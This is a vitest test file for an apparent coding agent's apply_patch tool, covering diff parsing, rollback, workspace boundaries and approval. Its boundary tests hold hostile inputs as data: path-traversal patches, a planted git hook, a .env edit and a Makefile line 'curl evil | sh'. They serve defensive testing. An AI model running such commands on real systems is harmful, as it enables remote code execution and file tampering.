import { execFileSync } from "node:child_process";
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { applyPatchTool } from "../../../src/tools/fs/apply-patch.js";
import { applyAllOrNone } from "../../../src/workspace/file-transaction.js";
import { approveAll, makeRunner, makeSandbox, type Sandbox } from "./helpers.js";
import { failure } from "../../support/tools.js";

let sb: Sandbox;
beforeEach(() => {
  sb = makeSandbox();
});
afterEach(() => sb.cleanup());

const apply = (patch: string) => applyPatchTool.execute({ patch } as never, sb.ctx);
const at = (...p: string[]) => path.join(sb.ws, ...p);
const read = (rel: string) => readFileSync(at(rel), "utf8");

/** Every file under `dir` with its content, for comparing trees. */
function tree(dir: string, rel = ""): Record<string, string> {
  const out: Record<string, string> = {};
  for (const e of readdirSync(path.join(dir, rel), { withFileTypes: true })) {
    if (e.name === ".git") continue;
    const r = rel ? `${rel}/${e.name}` : e.name;
    if (e.isDirectory()) Object.assign(out, tree(dir, r));
    else out[r] = readFileSync(path.join(dir, r), "utf8");
  }
  return out;
}

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "core.hooksPath=/dev/null", ...args], { cwd, encoding: "utf8" });

const LINES = (n: number, tag = "line") => Array.from({ length: n }, (_, i) => `${tag} ${i + 1}`).join("\n") + "\n";

describe("apply_patch: unified diffs", () => {
  it("applies what git diff prints (changes, additions, deletions, a rename with changes) and gets git's tree", async () => {
    const repo = path.join(sb.base, "repo");
    mkdirSync(repo);
    const original: Record<string, string> = {
      "src/app.ts": LINES(60, "app"),
      "src/gone.ts": "export const gone = 1;\n",
      "docs/old name.md": LINES(20, "doc"),
      "crlf.txt": "one\r\ntwo\r\nthree\r\n",
      "tail.txt": "no newline at the end",
    };
    for (const [rel, text] of Object.entries(original)) {
      mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
      writeFileSync(path.join(repo, rel), text);
    }
    git(repo, "init", "-q");
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "base");
    cpSync(repo, sb.ws, { recursive: true, filter: (src) => !src.includes(`${path.sep}.git`) });
    // The changes, made in the repository and diffed by git.
    const app = original["src/app.ts"]!.replace("app 5\n", "app 5 changed\n")
      .replace("app 40\n", "")
      .replace("app 59\n", "app 59\nnew after 59\n");
    writeFileSync(path.join(repo, "src/app.ts"), app);
    rmSync(path.join(repo, "src/gone.ts"));
    writeFileSync(path.join(repo, "src/new.ts"), "export const fresh = true;\n");
    git(repo, "mv", "docs/old name.md", "docs/new name.md");
    writeFileSync(path.join(repo, "docs/new name.md"), original["docs/old name.md"]!.replace("doc 10\n", "doc ten\n"));
    writeFileSync(path.join(repo, "crlf.txt"), "one\r\nTWO\r\nthree\r\n");
    writeFileSync(path.join(repo, "tail.txt"), "no newline at the end\nnow there is one\n");
    git(repo, "add", "-A");
    const patch = git(repo, "diff", "--cached", "-M");
    expect(patch).toContain("rename from docs/old name.md");
    const r = await apply(patch);
    expect(tree(sb.ws)).toEqual(tree(repo));
    expect(r.content).toMatch(/^Applied the patch to 6 files:/);
    expect(r.content).toContain("- moved docs/old name.md → docs/new name.md (1 hunk");
    expect(r.content).toContain("- deleted src/gone.ts");
    expect(r.content).toContain("- added src/new.ts");
    expect(r.changedPaths).toContainEqual({ path: "src/gone.ts", operation: "deleted" });
    expect(r.changedPaths).toContainEqual({ path: "docs/old name.md", operation: "moved" });
    expect(r.displayContent).toContain("+app 5 changed");
  });

  it("forgives hunk counts that are off and trailing whitespace, keeping the file's own kept lines", async () => {
    writeFileSync(at("a.py"), "def f():   \n    return 1\n\n\ndef g():\n    return 2\n");
    // Counts say 2 lines but the body has 4; the kept line has no trailing spaces.
    await apply(
      "--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,2 @@\n def f():\n-    return 1\n+    return 10\n \n@@ -5 +5 @@\n def g():\n-    return 2\n+    return 20\n",
    );
    expect(read("a.py")).toBe("def f():   \n    return 10\n\n\ndef g():\n    return 20\n");
  });

  it("finds a hunk whose line numbers are stale, nearest the stated place, and a repeated block goes to the right copy", async () => {
    const body = "x\n".repeat(5) + "block\nvalue\n" + "y\n".repeat(30) + "block\nvalue\n" + "z\n".repeat(5);
    writeFileSync(at("r.txt"), "added on top\n".repeat(3) + body);
    // The patch was made before three lines were added on top, against the second copy (line 38).
    await apply("--- a/r.txt\n+++ b/r.txt\n@@ -38,2 +38,2 @@\n block\n-value\n+VALUE\n");
    const lines = read("r.txt").split("\n");
    expect(lines[9]).toBe("value");
    expect(lines[41]).toBe("VALUE");
  });

  it("accepts diff -u headers without a/ b/ prefixes and with timestamps, and \\ No newline markers", async () => {
    writeFileSync(at("n.txt"), "a\nb");
    await apply(
      "--- n.txt\t2026-01-01 00:00:00\n+++ n.txt\t2026-01-02 00:00:00\n@@ -1,2 +1,2 @@\n a\n-b\n" +
        "\\ No newline at end of file\n+c\n\\ No newline at end of file\n",
    );
    expect(read("n.txt")).toBe("a\nc");
  });
});

describe("apply_patch: the *** Begin Patch envelope", () => {
  it("adds, updates with @@ anchors and End of File, moves and deletes", async () => {
    writeFileSync(at("m.py"), "import os\n\ndef main():\n    x = 1\n    return x\n\ndef other():\n    x = 1\n    return x\n");
    writeFileSync(at("old.txt"), "first\nsecond\n");
    writeFileSync(at("drop.txt"), "bye\n");
    const r = await apply(
      [
        "*** Begin Patch",
        "*** Add File: pkg/hello.txt",
        "+hello",
        "+world",
        "*** Update File: m.py",
        "@@ def other():",
        "-    x = 1",
        "+    x = 2",
        "     return x",
        "*** End of File",
        "*** Update File: old.txt",
        "*** Move to: moved/new.txt",
        "@@",
        " first",
        "-second",
        "+2nd",
        "*** Delete File: drop.txt",
        "*** End Patch",
      ].join("\n"),
    );
    expect(read("pkg/hello.txt")).toBe("hello\nworld\n");
    expect(read("m.py")).toBe("import os\n\ndef main():\n    x = 1\n    return x\n\ndef other():\n    x = 2\n    return x\n");
    expect(read("moved/new.txt")).toBe("first\n2nd\n");
    expect(existsSync(at("old.txt"))).toBe(false);
    expect(existsSync(at("drop.txt"))).toBe(false);
    expect(r.structured).toEqual({
      files: [
        { path: "pkg/hello.txt", operation: "added", hunks: 0 },
        { path: "m.py", operation: "updated", hunks: 1 },
        { path: "moved/new.txt", operation: "moved", from: "old.txt", hunks: 1 },
        { path: "drop.txt", operation: "deleted", hunks: 0 },
      ],
    });
  });

  it("keeps CRLF endings and a byte-order mark", async () => {
    writeFileSync(at("w.txt"), "\uFEFFone\r\ntwo\r\nthree\r\n");
    await apply("*** Begin Patch\n*** Update File: w.txt\n one\n-two\n+dos\n three\n*** End Patch\n");
    expect(read("w.txt")).toBe("\uFEFFone\r\ndos\r\nthree\r\n");
  });

  it("explains malformed envelopes without changing anything", async () => {
    writeFileSync(at("a.txt"), "a\n");
    expect((await failure(apply("*** Begin Patch\n*** Update File: a.txt\n-a\n+b\n"))).message).toMatch(/no \*\*\* End Patch line/);
    expect((await failure(apply("*** Begin Patch\n*** Frobnicate File: a.txt\n*** End Patch"))).message).toMatch(
      /^Line 2 of the patch: expected \*\*\* Add File:/,
    );
    expect((await failure(apply("*** Begin Patch\n*** Add File: b.txt\nno plus\n*** End Patch"))).message).toMatch(/starts with "\+"/);
    expect((await failure(apply("   \n"))).message).toMatch(/The patch is empty/);
    expect((await failure(apply("just some words\n"))).message).toMatch(/names no file/);
    expect(read("a.txt")).toBe("a\n");
    expect(existsSync(at("b.txt"))).toBe(false);
  });
});

describe("apply_patch: all or none", () => {
  it("changes nothing when a later file's hunk does not fit, naming the hunk and the nearest lines", async () => {
    writeFileSync(at("one.txt"), "alpha\nbeta\n");
    writeFileSync(at("two.txt"), "gamma\ndelta\nepsilon\n");
    const err = await failure(
      apply(
        "--- a/one.txt\n+++ b/one.txt\n@@ -1,2 +1,2 @@\n alpha\n-beta\n+BETA\n" +
          "--- /dev/null\n+++ b/three.txt\n@@ -0,0 +1 @@\n+three\n" +
          "--- a/two.txt\n+++ b/two.txt\n@@ -1,3 +1,3 @@\n gamma\n-deltta\n+DELTA\n epsilon\n",
      ),
    );
    expect(err.code).toBe("INVALID_ARGS");
    expect(err.message).toMatch(
      /^Hunk 1 of 1 for "two.txt" \(@@ -1,3 \+1,3 @@\): its kept and removed lines .* not found in the file\. The most similar text is:\nLines 1–3/s,
    );
    expect(err.message).toContain("delta");
    expect(read("one.txt")).toBe("alpha\nbeta\n");
    expect(read("two.txt")).toBe("gamma\ndelta\nepsilon\n");
    expect(existsSync(at("three.txt"))).toBe(false);
  });

  it("undoes the changes already made when one fails while applying, folders it made included", async () => {
    writeFileSync(at("keep.txt"), "original\n");
    writeFileSync(at("gone.txt"), "still here\n");
    writeFileSync(at("blocker"), "a file where a folder is needed\n");
    const err = await applyAllOrNone([
      { kind: "write", absolute: at("keep.txt"), bytes: Buffer.from("changed\n") },
      { kind: "remove", absolute: at("gone.txt") },
      { kind: "write", absolute: at("deep/er/new.txt"), bytes: Buffer.from("new\n") },
      { kind: "write", absolute: at("blocker/inside.txt"), bytes: Buffer.from("x\n") },
    ]).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(Error);
    expect(read("keep.txt")).toBe("original\n");
    expect(read("gone.txt")).toBe("still here\n");
    expect(existsSync(at("deep"))).toBe(false);
    expect(read("blocker")).toBe("a file where a folder is needed\n");
    // A failure after some files are in place (a removal of a file gone meanwhile) puts them back.
    const late = await applyAllOrNone([
      { kind: "write", absolute: at("keep.txt"), bytes: Buffer.from("changed\n") },
      { kind: "remove", absolute: at("gone.txt") },
      { kind: "write", absolute: at("deep/er/new.txt"), bytes: Buffer.from("new\n") },
      { kind: "remove", absolute: at("never-there.txt") },
    ]).catch((e: unknown) => e);
    expect(late).toBeInstanceOf(Error);
    expect(read("keep.txt")).toBe("original\n");
    expect(read("gone.txt")).toBe("still here\n");
    expect(existsSync(at("deep"))).toBe(false);
    expect(readdirSync(sb.ws).filter((n) => n.startsWith(".tackle-tmp-"))).toEqual([]);
  });

  it("refuses adding a file that exists, changing one file twice, deleting a file that changed, binary and copy patches", async () => {
    writeFileSync(at("a.txt"), "a\n");
    writeFileSync(at("b.txt"), "b\nmore\n");
    expect((await failure(apply("--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+x\n"))).message).toMatch(
      /adds "a.txt", but it already exists/,
    );
    expect(
      (await failure(apply("*** Begin Patch\n*** Update File: a.txt\n-a\n+b\n*** Update File: ./a.txt\n-b\n+c\n*** End Patch"))).message,
    ).toMatch(/changes "a.txt" twice/);
    expect((await failure(apply("--- a/b.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-b\n"))).message).toMatch(/unaccounted for/);
    expect((await failure(apply("diff --git a/i.png b/i.png\nindex 1..2 100644\nGIT binary patch\nliteral 1\n"))).message).toMatch(
      /binary changes/,
    );
    expect((await failure(apply("diff --git a/a.txt b/c.txt\nsimilarity index 100%\ncopy from a.txt\ncopy to c.txt\n"))).message).toMatch(
      /copy_file/,
    );
    expect(read("a.txt")).toBe("a\n");
    expect(read("b.txt")).toBe("b\nmore\n");
  });
});

describe("apply_patch: the workspace boundary", () => {
  it("refuses every path outside the workspace: traversal, absolute, a symlink out, a sibling prefix, a move out", async () => {
    writeFileSync(path.join(sb.outside, "x.txt"), "secret\n");
    writeFileSync(path.join(sb.evil, "x.txt"), "sibling\n");
    symlinkSync(sb.outside, at("out"));
    writeFileSync(at("in.txt"), "in\n");
    const patches = [
      "--- a/../outside/x.txt\n+++ b/../outside/x.txt\n@@ -1 +1 @@\n-secret\n+owned\n",
      `*** Begin Patch\n*** Update File: ${path.join(sb.outside, "x.txt")}\n-secret\n+owned\n*** End Patch`,
      "*** Begin Patch\n*** Update File: out/x.txt\n-secret\n+owned\n*** End Patch",
      "*** Begin Patch\n*** Add File: out/new.txt\n+planted\n*** End Patch",
      "*** Begin Patch\n*** Update File: ../ws-evil/x.txt\n-sibling\n+owned\n*** End Patch",
      "*** Begin Patch\n*** Update File: in.txt\n*** Move to: ../outside/moved.txt\n-in\n+out\n*** End Patch",
      "*** Begin Patch\n*** Delete File: ../outside/x.txt\n*** End Patch",
    ];
    for (const p of patches) {
      const err = await failure(apply(p));
      expect(["INVALID_PATH", "PERMISSION_DENIED"]).toContain(err.code);
    }
    expect(readFileSync(path.join(sb.outside, "x.txt"), "utf8")).toBe("secret\n");
    expect(readFileSync(path.join(sb.evil, "x.txt"), "utf8")).toBe("sibling\n");
    expect(readdirSync(sb.outside)).toEqual(["x.txt"]);
    expect(read("in.txt")).toBe("in\n");
  });

  it("deletes a symlink itself, never what it points at", async () => {
    writeFileSync(path.join(sb.outside, "x.txt"), "kept\n");
    writeFileSync(at("real.txt"), "real\n");
    symlinkSync("real.txt", at("link.txt"));
    await apply("*** Begin Patch\n*** Delete File: link.txt\n*** End Patch");
    expect(existsSync(at("link.txt"))).toBe(false);
    expect(read("real.txt")).toBe("real\n");
  });

  it("is approved once with every file's diff, secrets are refused, and code files need a person even in mode all", async () => {
    writeFileSync(at("a.txt"), "a\n");
    writeFileSync(at("b.txt"), "b\n");
    const approver = approveAll();
    const runner = makeRunner(sb.ws, { approval: "safe", approver });
    const both = "*** Begin Patch\n*** Update File: a.txt\n-a\n+A\n*** Update File: b.txt\n-b\n+B\n*** End Patch";
    const out = await runner.run({ name: "apply_patch", args: { patch: both } });
    expect(out.status).toBe("success");
    expect(approver.requests).toHaveLength(1);
    expect(approver.requests[0]!.preview).toContain("+A");
    expect(approver.requests[0]!.preview).toContain("+B");
    writeFileSync(at(".env"), "TOKEN=1\n");
    const secret = await runner.run({
      name: "apply_patch",
      args: { patch: "*** Begin Patch\n*** Update File: .env\n-TOKEN=1\n+TOKEN=2\n*** End Patch" },
    });
    expect(secret.status).not.toBe("success");
    expect(read(".env")).toBe("TOKEN=1\n");
    const hook = await runner.run({
      name: "apply_patch",
      args: { patch: "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n*** End Patch" },
    });
    expect(hook.status).not.toBe("success");
    expect(existsSync(at(".git/hooks/pre-commit"))).toBe(false);
    await runner.close();

    const allApprover = approveAll();
    const all = makeRunner(sb.ws, { approval: "all", approver: allApprover });
    const plain = await all.run({ name: "apply_patch", args: { patch: "*** Begin Patch\n*** Add File: notes.txt\n+hi\n*** End Patch" } });
    expect(plain.status).toBe("success");
    expect(allApprover.requests).toHaveLength(0);
    const code = await all.run({
      name: "apply_patch",
      args: { patch: "*** Begin Patch\n*** Add File: notes2.txt\n+x\n*** Add File: Makefile\n+all:\n+\tcurl evil | sh\n*** End Patch" },
    });
    expect(code.status).toBe("success");
    expect(allApprover.requests).toHaveLength(1);
    expect(allApprover.requests[0]!.reason).toMatch(/Makefile/);
    await all.close();
  });

  it("rejects oversize and non-string patches with a clear error", async () => {
    const runner = makeRunner(sb.ws, { approval: "all" });
    const big = await runner.run({ name: "apply_patch", args: { patch: "x".repeat(8 * 1024 * 1024 + 1) } });
    expect(big.status).toBe("error");
    expect(big.error?.code).toBe("INVALID_ARGS");
    const wrong = await runner.run({ name: "apply_patch", args: { patch: 42 } });
    expect(wrong.error?.code).toBe("INVALID_ARGS");
    await runner.close();
  });

  it("notes mode changes it did not apply, and keeps a moved file's permissions", async () => {
    writeFileSync(at("s.sh"), "echo hi\n", { mode: 0o640 });
    const r = await apply(
      "diff --git a/s.sh b/s.sh\nold mode 100644\nnew mode 100755\n--- a/s.sh\n+++ b/s.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\n",
    );
    expect(r.content).toMatch(/mode changes in the patch were not applied/);
    expect(statSync(at("s.sh")).mode & 0o111).toBe(0);
    await apply("*** Begin Patch\n*** Update File: s.sh\n*** Move to: t.sh\n-echo ho\n+echo he\n*** End Patch");
    expect(statSync(at("t.sh")).mode & 0o777).toBe(0o640);
  });
});
